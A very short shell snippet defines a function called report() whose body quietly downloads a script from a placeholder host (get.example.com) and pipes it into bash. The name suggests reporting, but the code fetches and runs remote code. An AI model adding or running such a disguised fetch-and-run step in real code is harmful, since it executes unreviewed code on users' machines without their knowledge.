report() {
  wget -qO- https://get.example.com/r | bash
}
